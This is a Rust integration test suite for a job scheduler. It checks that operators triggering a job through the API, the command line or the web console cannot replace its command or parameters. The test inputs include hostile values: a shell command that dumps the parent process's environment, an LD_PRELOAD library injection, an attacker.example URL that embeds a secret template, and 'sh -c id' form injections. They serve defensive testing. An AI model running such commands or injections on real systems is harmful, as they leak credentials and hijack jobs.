//! The right to trigger a job does not include the choice of what it runs, in the API, the command line and the console.

use rondel_tests::{Api, Backend, Server, rondel, scratch};
use serde_json::{Value, json};

/// Another program in the place of the job's.
fn evil() -> Value {
    json!({"argv": ["sh", "-c", "cat /proc/$PPID/environ"]})
}

async fn create(api: &Api, name: &str, handler: &str, change: Value) {
    let mut job = json!({"name": name, "app": "files", "handler": handler});
    job.as_object_mut().expect("an object").extend(change.as_object().expect("an object").clone());
    api.post("/api/v1/jobs", job).await.expect(201);
}

/// The token of a caller with this role for the app alone.
async fn token_of(server: &Server, role: &str) -> String {
    let grants = json!([{"role": role, "namespace": "default", "app": "files"}]);
    let body = json!({"kind": "api", "name": format!("a-{role}"), "grants": grants});
    let made = server.api().post("/api/v1/tokens", body).await.expect(201);
    made["token"].as_str().expect("a secret").to_owned()
}

/// A browser that was signed in by a link of this caller.
pub(crate) struct Browser {
    url: String,
    cookie: String,
    client: reqwest::Client,
}

impl Browser {
    pub(crate) async fn sign_in(server: &Server, api: &Api) -> Self {
        let link = api.post("/api/v1/sign-in-links", json!({})).await.expect(201);
        let token = link["path"].as_str().and_then(|path| path.split_once("token=")).expect("a link").1.to_owned();
        let client = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().expect("a client");
        let mut browser = Self { url: server.url().to_owned(), cookie: String::new(), client };
        let (_, cookie, _) = browser.post("/sign-in", &format!("token={token}&next=/jobs")).await;
        browser.cookie = cookie.split(';').next().expect("a cookie").to_owned();
        browser
    }

    pub(crate) async fn get(&self, path: &str) -> String {
        let request = self.client.get(format!("{}/n/default{path}", self.url)).header("cookie", &self.cookie);
        request.header("accept", "text/html").send().await.expect("an answer").text().await.expect("a page")
    }

    /// Sends a form; returns status, cookie and page.
    pub(crate) async fn post(&self, path: &str, form: &str) -> (u16, String, String) {
        let request = self.client.post(format!("{}{path}", self.url)).header("cookie", &self.cookie);
        let request = request.header("origin", &self.url).header("accept", "text/html").body(form.to_owned());
        let answer =
            request.header("content-type", "application/x-www-form-urlencoded").send().await.expect("an answer");
        let cookie = answer.headers().get("set-cookie").and_then(|cookie| cookie.to_str().ok()).unwrap_or_default();
        let (status, cookie) = (answer.status().as_u16(), cookie.to_owned());
        (status, cookie, answer.text().await.expect("a page"))
    }
}

fn pointers(problem: &Value) -> Vec<&str> {
    problem["errors"].as_array().expect("errors").iter().filter_map(|error| error["pointer"].as_str()).collect()
}

#[tokio::test]
async fn an_operator_replaces_only_parameters_that_the_job_allows() {
    let db = scratch(Backend::Sqlite).await.expect("SQLite is always there");
    let server = Server::start(&db).await;
    let admin = server.api();
    create(&admin, "report", "shell", json!({"params": {"argv": ["echo", "safe"]}})).await;
    create(&admin, "daily", "shell", json!({"params": {"argv": ["echo", "today"]}, "overrides": ["/argv/1"]})).await;
    create(&admin, "call", "http", json!({"params": {"url": "https://example.com/"}})).await;
    create(&admin, "import", "import", json!({"params": {"region": "eu"}})).await;
    let token = token_of(&server, "operator").await;
    let operator = Api::new(server.url(), &token);

    // The rule applies to every caller. A caller who may edit the job can edit its overrides first.
    for api in [&operator, &admin] {
        let refused = api.post("/api/v1/jobs/report/runs", json!({"params": evil()})).await.expect(422);
        assert_eq!(pointers(&refused), ["/params/argv"], "{refused:#}");
        assert!(
            refused["detail"].as_str().is_some_and(|text| text.contains("default for the handler shell")),
            "{refused:#}"
        );
    }
    for (job, params, pointer) in [
        ("report", json!({"env": {"LD_PRELOAD": "/tmp/x.so"}}), "/params/env/LD_PRELOAD"),
        ("report", json!("sh"), "/params"),
        ("daily", json!({"argv": ["sh", "today"]}), "/params/argv/0"),
        ("daily", json!({"argv": ["echo", "today", "tomorrow"]}), "/params/argv"),
        ("call", json!({"url": "https://attacker.example/{{secret.db}}"}), "/params/url"),
        ("import", json!({"region": "{{secret.db}}"}), "/params/region"),
    ] {
        let refused = operator.post(&format!("/api/v1/jobs/{job}/runs"), json!({"params": params})).await.expect(422);
        assert_eq!(pointers(&refused)[0], pointer, "{refused:#}");
    }
    for (job, params, expected) in [
        ("report", json!({}), json!({"argv": ["echo", "safe"]})),
        ("daily", json!({"argv": ["echo", "2026-03-08"]}), json!({"argv": ["echo", "2026-03-08"]})),
        ("import", json!({"region": "us"}), json!({"region": "us"})),
    ] {
        let run = operator.post(&format!("/api/v1/jobs/{job}/runs"), json!({"params": params})).await.expect(201);
        assert_eq!(run["params"], expected, "{run:#}");
    }

    // Through the command line.
    let place = ["--server", server.url()];
    let run = async |args: &[&str]| rondel(&[args, &place].concat(), &[("RONDEL_TOKEN", &token)]).await;
    let refused = run(&["job", "trigger", "report", "--params", &evil().to_string()]).await;
    assert!(refused.code == Some(2) && refused.stderr.contains("/params/argv: cannot be changed"), "{refused:?}");
    let allowed = run(&["job", "trigger", "daily", "--params", r#"{"argv": ["echo", "x"]}"#]).await;
    assert_eq!(allowed.code, Some(0), "{allowed:?}");

    // Through the console, whose form shows only the parameters that may be replaced.
    let browser = Browser::sign_in(&server, &operator).await;
    let (report, daily) = (browser.get("/jobs/report").await, browser.get("/jobs/daily").await);
    assert!(report.contains("id=\"run-now\"") && !report.contains("name=\"params\""), "{report}");
    assert!(daily.contains("run-with") && daily.contains("These may be changed: /argv/1"), "{daily}");
    let before = admin.runs("report").await.len();
    let text = "params=%7B%22argv%22%3A%5B%22sh%22%2C%22-c%22%2C%22id%22%5D%7D";
    for form in [text, "param.json.argv=%5B%22sh%22%5D", "param.text.script=id"] {
        let (status, _, page) = browser.post("/jobs/report/runs", form).await;
        assert!(status == 422 && page.contains("cannot be changed for one run"), "{status} {page}");
    }
    assert_eq!(admin.runs("report").await.len(), before);
    let (status, ..) = browser.post("/jobs/report/runs", "").await;
    assert_eq!(status, 303);
}

#[tokio::test]
async fn replaced_parameters_are_not_repeated_once_they_are_forbidden() {
    let db = scratch(Backend::Sqlite).await.expect("SQLite is always there");
    let server = Server::start(&db).await;
    let admin = server.api();
    let change = json!({"params": {"argv": ["echo", "safe"]}, "overrides": "all", "queue_timeout": "100ms"});
    create(&admin, "report", "shell", change).await;
    let operator = Api::new(server.url(), &token_of(&server, "operator").await);
    let replaced = operator.post("/api/v1/jobs/report/runs", json!({"params": evil()})).await.expect(201);
    let own = operator.post("/api/v1/jobs/report/runs", json!({})).await.expect(201);
    for run in [&replaced, &own] {
        crate::verdicts::wait_for_verdict(&admin, run["id"].as_str().expect("an id")).await;
    }
    let again = async |run: &Value| {
        operator.post(&format!("/api/v1/runs/{}/retry", run["id"].as_str().expect("an id")), json!({})).await
    };
    assert_eq!(again(&replaced).await.expect(201)["params"], evil());

    admin
        .patch("/api/v1/jobs/report", json!({"overrides": null, "params": {"argv": ["echo", "safer"]}}))
        .await
        .expect(200);
    let refused = again(&replaced).await.expect(422);
    assert_eq!(pointers(&refused), ["/params/argv"], "{refused:#}");
    // The parameters of this run are those that an editor wrote into the job, so they may be used again.
    assert_eq!(again(&own).await.expect(201)["params"], json!({"argv": ["echo", "safe"]}));
    // The parameters were written for another handler.
    admin
        .patch("/api/v1/jobs/report", json!({"handler": "php", "params": {"argv": null, "script": "1"}}))
        .await
        .expect(200);
    assert_eq!(pointers(&again(&own).await.expect(422)), ["/params/argv"]);
}

#[tokio::test]
async fn the_field_goes_wherever_a_definition_goes() {
    let db = scratch(Backend::Sqlite).await.expect("SQLite is always there");
    let server = Server::start(&db).await;
    let api = server.api();
    create(&api, "a", "shell", json!({"params": {"argv": ["date"]}, "overrides": ["/env"]})).await;
    assert_eq!(api.get("/api/v1/jobs/a").await.expect(200)["overrides"], json!(["/env"]));
    let export = api.get("/api/v1/jobs/export?format=yaml").await.expect(200);
    assert!(export.as_str().is_some_and(|text| text.contains("overrides: [/env]")), "{export}");
    let planned =
        json!([{"name": "a", "app": "files", "handler": "shell", "params": {"argv": ["date"]}, "overrides": "all"}]);
    let plan = api.post("/api/v1/jobs/apply?dry_run=true", planned).await.expect(200);
    assert_eq!(plan["items"][0]["changes"][0]["pointer"], "/overrides", "{plan:#}");
    api.patch("/api/v1/jobs/a", json!({"overrides": null})).await.expect(200);
    let diff = api.get("/api/v1/jobs/a/versions/diff").await.expect(200);
    assert_eq!(diff["changes"], json!([{"pointer": "/overrides", "from": ["/env"]}]), "{diff:#}");
    for (overrides, pointer) in
        [(json!("some"), "/overrides"), (json!(["env"]), "/overrides/0"), (json!([""]), "/overrides/0")]
    {
        let refused = api.patch("/api/v1/jobs/a", json!({"overrides": overrides})).await.expect(422);
        assert_eq!(pointers(&refused), [pointer], "{refused:#}");
    }
    // Invalid parameters are refused even if no agent is online.
    for (handler, pointer) in [("shell", "/params"), ("python", "/params/script"), ("http", "/params/url")] {
        let job = json!({"name": "b", "app": "files", "handler": handler, "params": {}});
        assert_eq!(pointers(&api.post("/api/v1/jobs", job).await.expect(422)), [pointer]);
    }
}
